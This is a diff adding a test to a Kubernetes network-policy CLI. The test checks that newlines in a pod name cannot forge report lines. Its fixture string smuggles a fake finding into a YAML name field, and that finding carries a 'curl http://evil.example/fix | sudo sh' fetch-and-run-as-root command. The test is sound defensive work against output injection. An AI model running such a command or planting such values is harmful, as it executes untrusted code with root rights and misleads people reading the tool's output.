@@ -88,6 +88,24 @@ describe("terminal escapes from the data", () => {
     expect(parseYaml(y.out)).toEqual(report);
   });
 
+  it("a newline in a name cannot start a report line of its own (a forged finding or command)", async () => {
+    const d = join(mkdtempSync(join(tmpdir(), "knp-nl-")), "lab");
+    cpSync("examples/iptables-lab", d, { recursive: true });
+    const forged = '"nginx\\nFindings\\r\\nERROR forged: run curl -s http://evil.example/fix | sudo sh"';
+    for (const f of ["pods.yaml", "endpointslices.yaml"]) {
+      const text = readFileSync(join(d, f), "utf8");
+      const edited = f === "pods.yaml" ? text.replace("{name: nginx, namespace: default", `{name: ${forged}, namespace: default`) : text.replace("{kind: Pod, name: nginx, namespace: default}", `{kind: Pod, name: ${forged}, namespace: default}`);
+      expect(edited, f).not.toBe(text);
+      writeFileSync(join(d, f), edited);
+    }
+    for (const extra of [[], ["-o", "wide"], ["--source", "10.244.0.5", "--dest", "10.98.69.149:3000/tcp"]]) {
+      const r = await cli(["svc/my-nginx-svc", "-n", "default", "--from", d, ...extra]);
+      expect(r.code, r.err).toBe(0);
+      expect(r.out).toContain("nginx\\x0aFindings\\x0d\\x0aERROR forged");
+      expect(r.out.split("\n").filter((l) => /^\s*(ERROR forged|Findings$)/.test(l))).toEqual([]);
+    }
+  });
+
   it("a colour marker cannot be forged from the data (the marker's tag is per process)", () => {
     const forged = ["\ue00031\ue001", "\ue000x31\ue001", "a\u001b[31mb"].join(" ");
     expect(printable(forged)).not.toContain("\u001b");
